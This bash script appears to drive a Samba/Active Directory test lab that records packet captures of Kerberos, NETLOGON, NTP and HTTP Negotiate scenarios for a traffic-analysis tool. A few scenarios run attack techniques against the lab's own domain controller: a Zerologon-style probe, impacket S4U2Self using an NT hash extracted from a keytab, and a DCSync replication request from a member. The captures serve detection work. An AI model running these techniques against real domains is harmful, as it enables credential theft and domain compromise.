# shellcheck shell=bash
# trustwire lab scenarios. Each scn_* function brings the nodes it needs to the
# required state (joining members on demand), records its capture(s) with
# cap_start/cap_stop, and leaves other nodes alone. Commands that are expected
# to fail end in "|| true". Output file names match pcaps/README.md.

MCC=KRB5CCNAME=FILE:/tmp/machine.ccache
UCC=KRB5CCNAME=FILE:/tmp/user.ccache
DCFQDN=dc1.$DNSDOMAIN
declare -A STALE 2>/dev/null || true

ensure_node() { [ -n "${INIT_PID[$1]:-}" ] || node_create "$1"; }

nb_of() { echo "${NODE_HOST[$1]}" | tr a-z A-Z; }

user_kinit() {   # node user password
    on "$1" env "$UCC" sh -c 'printf "%s\n" "$2" | kinit "$1" >/dev/null' - "$2" "$3"
}

# A VM snapshot rollback: save the member's secrets, let it rotate its
# password twice (the DC then knows neither the snapshot's password nor, as
# "previous", the one after it), restore the snapshot.
make_stale() {   # node
    local n=$1 d=$LAB/$1
    [ -n "${STALE[$n]:-}" ] && return 0
    member_join "$n"
    rm -rf "${d:?}/snapshot"; cp -a "$d/lib" "$d/snapshot"
    lab_key_snapshot "$(nb_of "$n")\$" "snapshot: the password the rolled-back machine uses"
    on "$n" net ads changetrustpw >/dev/null
    lab_key_snapshot "$(nb_of "$n")\$" "after rotation 1 (the DC's previous)"
    sleep 1
    on "$n" net ads changetrustpw >/dev/null
    lab_key_snapshot "$(nb_of "$n")\$" "after rotation 2 (the DC's current)"
    rm -rf "${d:?}/lib"/*; cp -a "$d/snapshot/." "$d/lib/"
    rm -f "$d/run"/*.tdb "$d/cache"/*.tdb
    STALE[$n]=1
}

# the member's NT hash = the RC4 key of its account in its own keytab
keytab_nthash() {   # node
    local pr
    pr="$(nb_of "$1")\$@$REALM"
    on "$1" klist -k -K -e | grep -F " $pr " | grep arcfour | head -1 | sed 's/.*(0x\([0-9a-f]*\)).*/\1/'
}

healthy_round() {   # node: TGT with the machine key, service ticket, SMB2 session
    machine_kinit "$1"
    on "$1" env "$MCC" kvno "cifs/$DCFQDN" >/dev/null
    on "$1" env "$MCC" smbclient "//$DCFQDN/netlogon" --use-kerberos=required -c 'ls' >/dev/null
}

# 1. Healthy machine: TGT with the machine key, service tickets, SMB2 with Kerberos
scn_01_healthy() {
    member_join ws1
    cap_start 01-healthy
    machine_kinit ws1
    on ws1 env "$MCC" kvno "cifs/$DCFQDN" "host/$DCFQDN"
    on ws1 env "$MCC" smbclient "//$DCFQDN/netlogon" --use-kerberos=required -c 'ls' >/dev/null
    cap_stop
    lab_export_keys 01-healthy 'WS01$' 'DC1$' krbtgt
}

# 2. Stale machine password after a snapshot rollback (WS02)
scn_02_stale_password() {
    member_join ws2
    make_stale ws2
    local nthash
    nthash=$(keytab_nthash ws2)
    cap_start 02-stale-password
    machine_kinit ws2 || true                 # AS-REQ -> KDC_ERR_PREAUTH_FAILED
    on ws2 net rpc testjoin -S "$DCFQDN" || true           # SMB2 session setup (Kerberos, then NTLM) -> LOGON_FAILURE
    # net rpc testjoin reaches NETLOGON over an anonymous SMB2 pipe; for the
    # ncacn_ip_tcp variant present the member's real (stale) secret to
    # NetrServerAuthenticate3 over TCP, as Windows' netlogon service does
    # (Samba 4.17's rpcclient crashes there, winbindd never gets that far).
    on ws2 "$PY" "$HERE/nrpc_probe.py" wrong-password --dc "$DC_IP" --transport tcp \
        --computer WS02 --nthash "$nthash" || true
    cap_stop
    lab_export_keys 02-stale-password 'WS02$' 'DC1$' krbtgt
    # winbindd's own connection retries and wbinfo -t, separately (larger)
    cap_start 02-stale-password-winbindd
    member_start_winbindd ws2
    on ws2 wbinfo -t || true
    cap_stop
    lab_export_keys 02-stale-password-winbindd 'WS02$' 'DC1$' krbtgt
    member_stop_winbindd ws2
}

# 3. Clock skew of +15 minutes on WS01 (libfaketime)
scn_03_clock_skew() {
    member_join ws1
    # valid TGT and cifs ticket obtained with the right time, before recording
    machine_kinit ws1
    on ws1 env "$MCC" kvno "cifs/$DCFQDN" >/dev/null
    ensure_node ws5
    dc_start_ntp
    CAP_EXTRA="or udp port 123"
    cap_start 03-clock-skew
    on ws1 env KRB5CCNAME=FILE:/tmp/skew.ccache FAKETIME_DONT_FAKE_MONOTONIC=1 \
        faketime -f +15m kinit -k "WS01\$@$REALM" || true              # AS-REQ -> KRB_AP_ERR_SKEW
    on ws1 env "$MCC" FAKETIME_DONT_FAKE_MONOTONIC=1 \
        faketime -f +15m kvno "host/$DCFQDN" || true                   # TGS-REQ -> KRB_AP_ERR_SKEW
    on ws1 env "$MCC" FAKETIME_DONT_FAKE_MONOTONIC=1 \
        faketime -f +15m smbclient "//$DCFQDN/netlogon" --use-kerberos=required -c ls || true  # SMB2 AP-REQ
    # The skewed machine asks the DC for the time, as domain members do: a
    # one-shot NTP client (ntpsec's sntp/ntpdig) under the same faketime, so the
    # request's transmit timestamp is WS01's (skewed) clock and the DC's reply
    # (chronyd) carries the DC's. chronyd -Q is not used as the client: chrony
    # 4 puts a random transmit timestamp into client requests. Then one query
    # from a host with a correct clock (WS05), so the capture also shows a
    # client that agrees with the DC.
    local i
    for i in 1 2 3; do
        on ws1 env FAKETIME_DONT_FAKE_MONOTONIC=1 faketime -f +15m sntp -t 2 "$DC_IP" || true
        sleep 1
    done
    on ws5 sntp -t 2 "$DC_IP" || true
    cap_stop
    lab_export_keys 03-clock-skew 'WS01$' 'DC1$' krbtgt
    CAP_EXTRA=
    dc_stop_ntp
}

# 4. NETLOGON secure channel: healthy (WS01) and wrong password, over TCP and SMB2
scn_04_netlogon() {
    member_join ws1
    member_start_winbindd ws1
    cap_start 04-netlogon-healthy
    on ws1 net rpc testjoin -S "$DCFQDN"                   # ncacn_np \PIPE\netlogon over SMB2
    on ws1 wbinfo -t                          # winbindd's secure channel
    on ws1 rpcclient -P "ncacn_ip_tcp:${DCFQDN}[schannel,seal]" -c "dsr_getdcname $DNSDOMAIN" >/dev/null || true
    cap_stop
    lab_export_keys 04-netlogon-healthy 'WS01$' 'DC1$' krbtgt
    member_stop_winbindd ws1
    cap_start 04-netlogon-wrong-password
    on ws1 "$PY" "$HERE/nrpc_probe.py" wrong-password --dc "$DC_IP" --transport tcp --computer WS01 || true
    on ws1 "$PY" "$HERE/nrpc_probe.py" wrong-password --dc "$DC_IP" --transport np  --computer WS01 || true
    cap_stop
    lab_export_keys 04-netlogon-wrong-password 'WS01$' 'DC1$' krbtgt
}

# 5. Machine password rotation (WS05): kpasswd (Samba net ads changetrustpw),
#    NetrServerPasswordSet2 (winbindd), and kpasswd over TCP (MIT kpasswd)
scn_05_rotation() {
    member_join ws5
    member_start_winbindd ws5
    lab_key_snapshot 'WS05$' "before the kpasswd rotation"
    cap_start 05-rotation
    on ws5 net ads changetrustpw              # kpasswd set-password (464)
    lab_key_snapshot 'WS05$' "after the kpasswd rotation"
    machine_kinit ws5                         # new key works
    on ws5 wbinfo --change-secret             # NETLOGON NetrServerPasswordSet2 on the secure channel
    on ws5 wbinfo -t
    cap_stop
    lab_export_keys 05-rotation 'WS05$' 'DC1$' krbtgt
    member_stop_winbindd ws5
    # Samba 4.17 does not write the new secret of a NETLOGON rotation into the
    # keytab; resync it (as an admin would) so WS05 stays healthy afterwards
    on ws5 net ads keytab create -P >/dev/null
    # kpasswd over TCP for the machine account, as adcli-style members rotate:
    # give WS05$ a known password (DC + secrets.tdb, not recorded), then MIT
    # kpasswd (udp_preference_limit = 1) changes it, and the member stores it.
    sed 's/^    kdc_timesync = 0/    kdc_timesync = 0\n    udp_preference_limit = 1/' \
        "$LAB/ws5/etc/krb5.conf" > "$LAB/ws5/etc/krb5-tcp.conf"
    local mp1='Tw-Lab-Machine-1!' mp2='Tw-Lab-Machine-2!'
    on dc samba-tool user setpassword 'WS05$' --newpassword="$mp1" >/dev/null
    printf '%s\n' "$mp1" | on ws5 net changesecretpw -f -i >/dev/null
    lab_key_snapshot 'WS05$' "password $mp1 (set on the DC before the kpasswd-tcp capture)"
    cap_start 05-rotation-kpasswd-tcp
    on ws5 env KRB5_CONFIG=/etc/samba/krb5-tcp.conf KRB5CCNAME=FILE:/tmp/kpasswd.ccache sh -c \
        'printf "%s\n%s\n%s\n" "$1" "$2" "$2" | kpasswd "$3"' - "$mp1" "$mp2" "WS05\$@$REALM"
    cap_stop
    lab_key_snapshot 'WS05$' "password $mp2 (set by kpasswd over TCP)"
    lab_export_keys 05-rotation-kpasswd-tcp 'WS05$' 'DC1$' krbtgt
    lab_export_password 05-rotation-kpasswd-tcp "WS05\$@$REALM" "$mp1" "before kpasswd (old password)"
    lab_export_password 05-rotation-kpasswd-tcp "WS05\$@$REALM" "$mp2" "after kpasswd (new password)"
    printf '%s\n' "$mp2" | on ws5 net changesecretpw -f -i >/dev/null
    on ws5 net ads keytab create -P >/dev/null
    machine_kinit ws5                         # healthy again (not recorded)
}

# 6. Disabled (WS03) and deleted (WS04) machine accounts
scn_06_disabled_deleted() {
    member_join ws3
    member_join ws4
    lab_key_snapshot 'WS03$' "as joined (before the account was disabled)"
    lab_key_snapshot 'WS04$' "as joined (before the account was deleted)"
    on dc samba-tool user disable 'WS03$' >/dev/null
    on dc samba-tool computer delete WS04 >/dev/null
    cap_start 06-disabled
    machine_kinit ws3 || true                 # KDC_ERR_CLIENT_REVOKED
    on ws3 net rpc testjoin -S "$DCFQDN" || true
    cap_stop
    lab_export_keys 06-disabled 'WS03$' 'DC1$' krbtgt
    cap_start 06-deleted
    machine_kinit ws4 || true                 # KDC_ERR_C_PRINCIPAL_UNKNOWN
    on ws4 net rpc testjoin -S "$DCFQDN" || true
    cap_stop
    lab_export_keys 06-deleted 'WS04$' 'DC1$' krbtgt
}

# 7. Cloned machine: WS06 copied to a second namespace (other MAC and IP);
#    the clone rotates the password, the original is left with the old one.
scn_07_cloned() {
    member_join ws6
    ensure_node ws6b
    cp "$LAB/ws6/etc/smb.conf" "$LAB/ws6b/etc/smb.conf"
    cp -a "$LAB/ws6/lib/." "$LAB/ws6b/lib/"
    JOINED[ws6b]=1
    lab_key_snapshot 'WS06$' "as joined: the original's (and the clone's first) password"
    cap_start 07-cloned
    machine_kinit ws6                         # original, healthy
    machine_kinit ws6b                        # clone, same key, other IP/MAC
    on ws6b net ads changetrustpw             # clone rotates (kpasswd)
    lab_key_snapshot 'WS06$' "after the clone's rotation 1"
    sleep 1
    on ws6b net ads changetrustpw
    lab_key_snapshot 'WS06$' "after the clone's rotation 2 (the DC's current)"
    machine_kinit ws6b                        # clone fine
    on ws6b net rpc testjoin -S "$DCFQDN"
    machine_kinit ws6 || true                 # original: KDC_ERR_PREAUTH_FAILED
    on ws6 net rpc testjoin -S "$DCFQDN" || true           # original: ACCESS_DENIED
    cap_stop
    lab_export_keys 07-cloned 'WS06$' 'DC1$' krbtgt
}

# 8. Zerologon-style probe against the lab DC (20 attempts, stops on success)
scn_08_zerologon() {
    ensure_node ws8
    cap_start 08-zerologon
    on ws8 "$PY" "$HERE/nrpc_probe.py" zerologon --dc "$DC_IP" --transport tcp --computer DC1 --attempts 20 || true
    cap_stop
    lab_export_keys 08-zerologon 'DC1$' krbtgt
}

# 9. Big tickets: a user in 300 groups; UDP answered RESPONSE_TOO_BIG, TCP
#    messages spanning several segments (AS-REP, TGS-REQ, SMB2 session setup)
scn_09_big_ticket() {
    ensure_node ws7
    on dc samba-tool user create bigtoken "$USERPASS" >/dev/null
    on dc samba-tool user setexpiry bigtoken --noexpiry >/dev/null
    on dc "$PY" "$HERE/big_groups.py" bigtoken 300 >/dev/null
    cap_start 09-big-ticket
    user_kinit ws7 bigtoken "$USERPASS"
    on ws7 env "$UCC" kvno "cifs/$DCFQDN" >/dev/null
    on ws7 env "$UCC" smbclient "//$DCFQDN/netlogon" --use-kerberos=required -c ls >/dev/null
    cap_stop
    lab_export_keys 09-big-ticket bigtoken 'DC1$' krbtgt
    lab_export_password 09-big-ticket "bigtoken@$REALM" "$USERPASS" "user created by the lab"
}

# 10a. A member server (SRV01) whose own key is stale: its account password
#      is reset on the DC (samba-tool user setpassword), SRV01 keeps the old
#      secret. Clients get tickets under the new key; SRV01's acceptors are
#      smbd (Samba 4.17 member, keytab) and MIT's gss-server
#      (krb5-gss-samples) on TCP 4444.
#      Capture 1 (-kvno): keytab as joined (old kvno, old keys).
#      Capture 2: after SRV01 refreshes its keytab (net ads keytab create),
#      which writes its old secret's keys under the DC's current kvno, as a
#      Windows server (which ignores the kvno) effectively uses them.
gss_round() {   # keytab-path   (one gss-server accept + one gss-client attempt)
    on srv1 env KRB5_KTNAME="FILE:$1" sh -c 'exec gss-server -port 4444 -once host >>/var/log/samba/gss-server.out 2>&1' &
    local p=$!
    sleep 1
    on ws7 env "$UCC" gss-client -port 4444 "srv01.$DNSDOMAIN" "host@srv01.$DNSDOMAIN" hello || true
    kill "$p" 2>/dev/null || true
    wait "$p" 2>/dev/null || true
}

scn_10_server_key() {
    member_join srv1
    member_start_smbd srv1
    ensure_node ws7
    lab_key_snapshot 'SRV01$' "as joined (SRV01's keytab, the old key)"
    on dc samba-tool user setpassword 'SRV01$' --random-password >/dev/null
    lab_key_snapshot 'SRV01$' "after the reset on the DC (the DC's current)"
    CAP_EXTRA="or port 4444"
    cap_start 10-server-key-kvno
    user_kinit ws7 alice "$USERPASS"
    on ws7 env "$UCC" smbclient "//srv01.$DNSDOMAIN/share" --use-kerberos=required -c ls </dev/null || true
    gss_round /var/lib/samba/private/krb5.keytab          # KRB_AP_ERR_BADKEYVER
    cap_stop
    lab_export_keys 10-server-key-kvno 'SRV01$' alice 'DC1$' krbtgt
    lab_export_password 10-server-key-kvno "alice@$REALM" "$USERPASS" "user created by the lab"
    on srv1 net ads keytab create -U "Administrator%$ADMINPASS" >/dev/null
    cap_start 10-server-key-mismatch
    on ws7 env "$UCC" smbclient "//srv01.$DNSDOMAIN/share" --use-kerberos=required -c ls </dev/null || true
    gss_round /var/lib/samba/private/krb5.keytab          # KRB_AP_ERR_MODIFIED
    cap_stop
    lab_export_keys 10-server-key-mismatch 'SRV01$' alice 'DC1$' krbtgt
    lab_export_password 10-server-key-mismatch "alice@$REALM" "$USERPASS" "user created by the lab"
    CAP_EXTRA=
    cat "$LAB/srv1/log/gss-server.out" >&2
}

# 10c. The stale-key server of 10a behind HTTP: Apache 2.4 with
#      mod_auth_gssapi (MIT acceptor) on SRV01, SPN HTTP/srv01, and curl
#      --negotiate from WS07. Whatever the acceptor answers travels in a
#      standard, dissectable place: the WWW-Authenticate: Negotiate header of
#      the 401. Two requests: keytab as joined (old kvno), then after the
#      keytab refresh that writes the stale secret under the current kvno.
httpd_conf() {   # [port]: writes SRV01's private Apache config (default port 80)
    local d=$LAB/srv1/lib/httpd m=/usr/lib/apache2/modules port=${1:-80}
    mkdir -p "$d/www"
    echo "trustwire lab" > "$d/www/index.html"
    cat > "$d/httpd.conf" <<EOF
ServerRoot /usr/lib/apache2
ServerName srv01.$DNSDOMAIN
LoadModule mpm_prefork_module $m/mod_mpm_prefork.so
LoadModule authn_core_module $m/mod_authn_core.so
LoadModule authz_core_module $m/mod_authz_core.so
LoadModule authz_user_module $m/mod_authz_user.so
LoadModule auth_gssapi_module $m/mod_auth_gssapi.so
Listen $SUBNET.${NODE_IP[srv1]}:$port
PidFile /var/lib/samba/httpd/httpd.pid
ErrorLog /var/log/samba/httpd-error.log
LogLevel debug
User nobody
Group nogroup
DocumentRoot /var/lib/samba/httpd/www
<Location />
    AuthType GSSAPI
    AuthName "trustwire lab"
    GssapiCredStore keytab:/var/lib/samba/httpd/http.keytab
    GssapiAllowedMech krb5
    Require valid-user
</Location>
EOF
}

httpd_round() {   # [url [curl args]]: copy SRV01's keytab for Apache, start it, one curl from WS07, stop it
    local d=$LAB/srv1/lib/httpd url=${1:-http://srv01.$DNSDOMAIN/}
    [ $# -gt 0 ] && shift
    cp "$LAB/srv1/lib/private/krb5.keytab" "$d/http.keytab"
    chmod 644 "$d/http.keytab"
    on srv1 sh -c 'exec apache2 -X -f /var/lib/samba/httpd/httpd.conf >/var/log/samba/httpd.out 2>&1' &
    BG_PIDS+=($!)
    local _try
    for _try in $(seq 50); do [ -s "$d/httpd.pid" ] && break; sleep 0.1; done
    sleep 0.3
    on ws7 env "$UCC" curl -s -o /dev/null -w '%{http_code}\n' --negotiate -u : --service-name http "$@" "$url" || true
    on srv1 sh -c 'p=$(cat /var/lib/samba/httpd/httpd.pid 2>/dev/null) && kill "$p"; for i in $(seq 50); do [ -e /proc/$p ] || exit 0; sleep 0.1; done' || true
}

scn_10_server_key_http() {
    member_join srv1
    ensure_node ws7
    on dc samba-tool spn add "HTTP/srv01.$DNSDOMAIN" 'SRV01$' >/dev/null 2>&1 || true
    on srv1 net ads keytab create -P >/dev/null      # HTTP/ keys with SRV01's current secret
    lab_key_snapshot 'SRV01$' "SRV01's secret before the HTTP reset (its keytab)"
    on dc samba-tool user setpassword 'SRV01$' --random-password >/dev/null
    lab_key_snapshot 'SRV01$' "after the HTTP reset on the DC (the DC's current)"
    httpd_conf
    CAP_EXTRA="or port 80"
    cap_start 10-server-key-http
    user_kinit ws7 alice "$USERPASS"
    httpd_round                                      # keytab with the old kvno
    on srv1 net ads keytab create -U "Administrator%$ADMINPASS" >/dev/null
    httpd_round                                      # stale keys under the current kvno
    cap_stop
    lab_export_keys 10-server-key-http 'SRV01$' alice 'DC1$' krbtgt
    lab_export_password 10-server-key-http "alice@$REALM" "$USERPASS" "user created by the lab"
    CAP_EXTRA=
    cat "$LAB/srv1/log/httpd-error.log" >&2 || true
}

# 10b. Several healthy machines and one stale one (WS02) at the same time
scn_10_mixed() {
    member_join ws1; member_join ws5; member_join ws8
    make_stale ws2
    cap_start 10-mixed
    healthy_round ws1 & local p1=$!
    healthy_round ws5 & local p2=$!
    { machine_kinit ws2 || true; on ws2 net rpc testjoin -S "$DCFQDN" || true; } & local p3=$!
    healthy_round ws8 & local p4=$!
    wait $p1; wait $p2; wait $p3; wait $p4
    cap_stop
    lab_export_keys 10-mixed 'WS01$' 'WS02$' 'WS05$' 'WS08$' 'DC1$' krbtgt
}

# 11. Reset by someone else: WS08's secure channel works; an administrator on
#     WS07 (not WS08, not the DC) resets WS08$'s password through SAMR
#     (`net rpc password`: SamrSetInformationUser2 over \PIPE\samr); WS08
#     keeps its old secret, so its next NETLOGON authentication and Kerberos
#     pre-authentication fail.
scn_11_samr_reset() {
    member_join ws8
    ensure_node ws7
    lab_key_snapshot 'WS08$' "as joined: the password WS08 keeps (before the reset from WS07)"
    cap_start 11-samr-reset
    on ws8 net rpc testjoin -S "$DCFQDN"                          # before: accepted
    on ws7 net rpc password 'WS08$' 'Reset-From-Ws07-1!' -U "Administrator%$ADMINPASS" -S "$DCFQDN" \
        || on ws7 rpcclient -U "Administrator%$ADMINPASS" "$DCFQDN" -c "setuserinfo2 WS08\$ 23 Reset-From-Ws07-1!"
    sleep 1
    on ws8 net rpc testjoin -S "$DCFQDN" || true                  # after: ACCESS_DENIED
    machine_kinit ws8 || true                                     # KDC_ERR_PREAUTH_FAILED
    cap_stop
    lab_key_snapshot 'WS08$' "after the SAMR reset from WS07 (the DC's current)"
    lab_export_keys 11-samr-reset 'WS08$' Administrator 'DC1$' krbtgt
    lab_export_password 11-samr-reset "WS08\$@$REALM" 'Reset-From-Ws07-1!' "set through SAMR from WS07 (the DC's current)"
    lab_export_password 11-samr-reset "Administrator@$REALM" "$ADMINPASS" "the administrator who reset it"
}
# 11a. HTTP Negotiate on WinRM's port: Apache + mod_auth_gssapi on SRV01
#      listening on 5985, a WinRM-shaped POST /wsman from WS07 with a healthy
#      keytab (AP-REQ in Authorization, AP-REP in the 200's WWW-Authenticate).
#      trustwire finds HTTP there by its first bytes, not by the port.
# The member and the DC agree on a new machine password again (an
# administrator's repair, not recorded): after the resets of 10-server-key*
# SRV01 holds a secret the DC no longer knows.
member_resync_secret() {   # node
    local n=$1 pw
    pw="Tw-Lab-Resync-$RANDOM-1!"
    on dc samba-tool user setpassword "$(nb_of "$n")\$" --newpassword="$pw" >/dev/null
    printf '%s\n' "$pw" | on "$n" net changesecretpw -f -i >/dev/null
    RESYNC_PW[$n]=$pw
}
declare -A RESYNC_PW 2>/dev/null || true

scn_11_http_5985() {
    member_join srv1
    ensure_node ws7
    on dc samba-tool spn add "HTTP/srv01.$DNSDOMAIN" 'SRV01$' >/dev/null 2>&1 || true
    machine_kinit srv1 >/dev/null 2>&1 || member_resync_secret srv1
    on srv1 net ads keytab create -P >/dev/null      # HTTP/ keys with SRV01's current secret
    httpd_conf 5985
    CAP_EXTRA="or port 5985"
    cap_start 11-http-5985
    user_kinit ws7 alice "$USERPASS"
    httpd_round "http://srv01.$DNSDOMAIN:5985/wsman" -X POST -H 'Content-Type: application/soap+xml;charset=UTF-8' --data-binary ''
    cap_stop
    CAP_EXTRA=
    lab_export_keys 11-http-5985 'SRV01$' alice 'DC1$' krbtgt
    lab_export_password 11-http-5985 "alice@$REALM" "$USERPASS" "user created by the lab"
    [ -n "${RESYNC_PW[srv1]:-}" ] &&
        lab_export_password 11-http-5985 "SRV01\$@$REALM" "${RESYNC_PW[srv1]}" "SRV01's secret, set on both sides before the capture"
    return 0
}

# 11b. Secure dynamic DNS update (RFC 3645 GSS-TSIG) as a member does it:
#      WS01 with its machine TGT runs nsupdate -g against the DC's internal
#      DNS: TKEY negotiation (SPNEGO/Kerberos AP-REQ, AP-REP in the TKEY
#      answer), then the TSIG-signed UPDATE of its A record.
scn_11_gss_tsig() {
    member_join ws1
    machine_kinit ws1
    CAP_EXTRA="or port 53"
    cap_start 11-gss-tsig
    printf 'server %s\nzone %s\nupdate delete ws01.%s A\nupdate add ws01.%s 900 A %s\nsend\n' \
        "$DCFQDN" "$DNSDOMAIN" "$DNSDOMAIN" "$DNSDOMAIN" "$SUBNET.${NODE_IP[ws1]}" \
        | on ws1 env "$MCC" nsupdate -g || true
    cap_stop
    CAP_EXTRA=
    # (internal DNS: DNS/dc1's tickets are under DC1$'s keys)
    lab_export_keys 11-gss-tsig 'WS01$' 'DC1$' krbtgt
}

impacket_example() {   # script name (getST.py …): where Debian's python3-impacket put it
    local c
    for c in "/usr/share/doc/python3-impacket/examples/$1" "/usr/bin/impacket-${1%.py}"; do
        [ -e "$c" ] && { echo "$c"; return 0; }
    done
    [ -e "/usr/share/doc/python3-impacket/examples/$1.gz" ] && {
        zcat "/usr/share/doc/python3-impacket/examples/$1.gz" > "$LAB/$1"; echo "$LAB/$1"; return 0; }
    die "impacket example $1 not found"
}

# 11c. S4U2Self for users that do not exist: WS01's machine account, with
#      its TGT, asks the KDC (MIT kvno -U: PA-FOR-USER and PA-S4U-X509-USER)
#      for tickets to itself on behalf of a user that never existed and of
#      one just deleted; then impacket getST does the same with only
#      PA-FOR-USER (Samba's Heimdal answers that with KRB_AP_ERR_INAPP_CKSUM:
#      another TGS-REQ failure).
scn_11_s4u_deleted() {
    member_join ws1
    local nt getst u
    nt=$(keytab_nthash ws1)
    getst=$(impacket_example getST.py)
    on dc samba-tool user create leaver "$USERPASS" >/dev/null
    lab_key_snapshot leaver "created and then deleted before the capture"
    on dc samba-tool user delete leaver >/dev/null
    machine_kinit ws1
    cap_start 11-s4u-deleted
    for u in nosuchuser leaver; do
        on ws1 env "$MCC" kvno -U "$u" "WS01\$@$REALM" || true
    done
    on ws1 sh -c 'cd /tmp && exec /usr/bin/python3 "$@"' - "$getst" -spn "cifs/$DCFQDN" -impersonate nosuchuser \
        -dc-ip "$DC_IP" -hashes ":$nt" "$REALM/WS01\$" </dev/null || true
    cap_stop
    lab_export_keys 11-s4u-deleted 'WS01$' leaver 'DC1$' krbtgt
    lab_export_password 11-s4u-deleted "leaver@$REALM" "$USERPASS" "user created and deleted before the capture"
}

# 11d. DCSync from a host that is not a DC: on WS01, with WS01's machine
#      TGT, `samba-tool drs clone-dc-database` asks the DC to replicate the
#      domain naming context over DRSUAPI (DRSBind, then DRSGetNCChanges,
#      sealed).  A member has no replication rights, so the DC refuses the
#      replication; the calls are on the wire all the same.
scn_11_dcsync() {
    member_join ws1
    # Samba serves DRSUAPI on the next port after the pinned one (its own
    # process): keep it in the capture.
    CAP_EXTRA="or port $((RPC_PORT + 1))"
    cap_start 11-dcsync
    machine_kinit ws1
    on ws1 env "$MCC" samba-tool drs clone-dc-database "$REALM" --server="$DCFQDN" \
        --targetdir=/tmp/twclone --use-kerberos=required </dev/null || true
    cap_stop
    CAP_EXTRA=
    lab_export_keys 11-dcsync 'WS01$' 'DC1$' krbtgt
}

# ---------------------------------------------------------------- issue 9/10 scenarios

DC2FQDN=dc2.$DNSDOMAIN
DOMAIN_NC="DC=${DNSDOMAIN//./,DC=}"

# kinit with the machine keytab against DC2 only
machine_kinit_dc2() {   # node
    local n=$1 nb
    nb=$(nb_of "$n")
    write_krb5_conf_dc2 "$n"
    on "$n" env KRB5_CONFIG=/etc/samba/krb5-dc2.conf KRB5CCNAME=FILE:/tmp/machine-dc2.ccache kinit -k "$nb\$@$REALM"
}

dc2_drs_options() {   # +DISABLE_INBOUND_REPL | -DISABLE_INBOUND_REPL
    on dc2 samba-tool drs options "$DC2FQDN" --dsa-option="$1" -U "Administrator%$ADMINPASS" >/dev/null
}

dc2_replicate_from_dc1() {
    on dc2 samba-tool drs replicate "$DC2FQDN" "$DCFQDN" "$DOMAIN_NC" -U "Administrator%$ADMINPASS" >/dev/null
}

# 12a. One DC lags (issue 9, dc-replication): DC2 joined to DC1 as a second
#      DC, its inbound replication switched off; WS10 and WS11 change their
#      machine passwords on DC1 (kpasswd) and then log on against DC1
#      (accepted) and against DC2 (refused: DC2 still holds the old
#      passwords); WS12, which changed nothing, is accepted by both.
scn_12_dc_replication() {
    member_join ws10; member_join ws11; member_join ws12
    if [ -n "${DC2_UP:-}" ]; then dc2_replicate_from_dc1; else dc2_join; fi
    local n
    for n in ws10 ws11 ws12; do
        machine_kinit_dc2 "$n" >/dev/null    # DC2 knows every member (not recorded)
        lab_key_snapshot "$(nb_of "$n")\$" "as joined (DC2 holds this one)"
    done
    dc2_drs_options +DISABLE_INBOUND_REPL
    cap_start 12-dc-replication
    for n in ws10 ws11; do
        on "$n" net ads changetrustpw                  # kpasswd on DC1
        lab_key_snapshot "$(nb_of "$n")\$" "after the rotation on DC1 (DC1's current; DC2 lacks it)"
        machine_kinit "$n"                             # DC1: AS-REP with the new key
        machine_kinit_dc2 "$n" || true                 # DC2: KDC_ERR_PREAUTH_FAILED
        on "$n" net rpc testjoin -S "$DC2FQDN" || true  # DC2's NETLOGON: STATUS_ACCESS_DENIED
    done
    machine_kinit ws12                                 # both DCs accept WS12
    machine_kinit_dc2 ws12
    on ws12 net rpc testjoin -S "$DC2FQDN"
    cap_stop
    lab_export_keys 12-dc-replication 'WS10$' 'WS11$' 'WS12$' 'DC1$' 'DC2$' krbtgt
    # the repair (not recorded): inbound replication on again, DC2 catches up
    dc2_drs_options -DISABLE_INBOUND_REPL
    dc2_replicate_from_dc1
    machine_kinit_dc2 ws10 >/dev/null && log "after the repair DC2 accepts WS10's new password"
}

# 12b. A DC whose own clock steps (issue 10): DC2's samba runs under
#      libfaketime (dc2_clock); WS10 and WS12 log on against DC2 with the
#      clock right, then DC2's clock jumps 47 minutes ahead and their next
#      logons are refused with KRB_AP_ERR_SKEW, while DC1 (right clock)
#      still accepts them. The members' clocks never moved.
scn_12_dc_clock_step() {
    member_join ws10; member_join ws12
    if [ -n "${DC2_UP:-}" ]; then dc2_replicate_from_dc1; else dc2_join; fi
    dc2_clock +0
    sleep 1.5
    local n
    cap_start 12-dc-clock-step
    for n in ws10 ws12; do machine_kinit_dc2 "$n"; done      # DC2's clock right: accepted
    dc2_clock +47m
    sleep 2                                                  # libfaketime re-reads it every second
    for n in ws10 ws12; do
        machine_kinit_dc2 "$n" || true                       # KRB_AP_ERR_SKEW, stime 47 min ahead
        machine_kinit "$n"                                   # DC1: accepted
    done
    machine_kinit_dc2 ws10 || true
    cap_stop
    dc2_clock +0
    lab_export_keys 12-dc-clock-step 'WS10$' 'WS12$' 'DC1$' 'DC2$' krbtgt
}

# 12c. A time server with a wrong clock that several machines follow
#      (issue 9, time-source): NTP01 (10.77.0.50, no domain member) runs
#      chronyd serving its own clock, which libfaketime puts 37 minutes
#      ahead. WS13, WS14 and WS15 took their time from it (their processes
#      run 37 minutes ahead as well): each asks NTP01 for the time (ntpsec
#      sntp, whose request carries the client's clock) and then fails
#      Kerberos at DC1 with KRB_AP_ERR_SKEW. WS07 asks NTP01 with chronyd
#      -Q, whose requests carry a random transmit timestamp (no clock
#      reading: trustwire drops and counts such samples).
NTP1_IP=$SUBNET.50
NTP1_SKEW=+37m
NTP1_FT=(FAKETIME_DONT_FAKE_MONOTONIC=1 LD_PRELOAD="$LIBFAKETIME" FAKETIME="$NTP1_SKEW")

ntp1_start() {
    [ -n "${NTP1_UP:-}" ] && return 0
    ensure_node ntp1
    mkdir -p "$LAB/ntp1/lib/chrony"
    cat > "$LAB/ntp1/lib/chrony/chrony.conf" <<EOC
allow $SUBNET.0/24
local stratum 8
bindaddress $NTP1_IP
bindcmdaddress /
cmdport 0
pidfile /var/lib/samba/chrony/chronyd.pid
driftfile /var/lib/samba/chrony/drift
EOC
    # (libfaketime preloaded directly: the faketime wrapper's named semaphore
    # is keyed by PID, and PIDs repeat across the nodes' PID namespaces)
    on ntp1 env "${NTP1_FT[@]}" \
        sh -c 'exec chronyd -x -d -u root -f /var/lib/samba/chrony/chrony.conf >/var/log/samba/chronyd.out 2>&1' &
    BG_PIDS+=($!)
    local i
    for i in $(seq 50); do
        [ -s "$LAB/ntp1/lib/chrony/chronyd.pid" ] && { NTP1_UP=1; sleep 1; return 0; }
        sleep 0.1
    done
    cat "$LAB/ntp1/log/chronyd.out" >&2
    die "chronyd on NTP01 did not start"
}

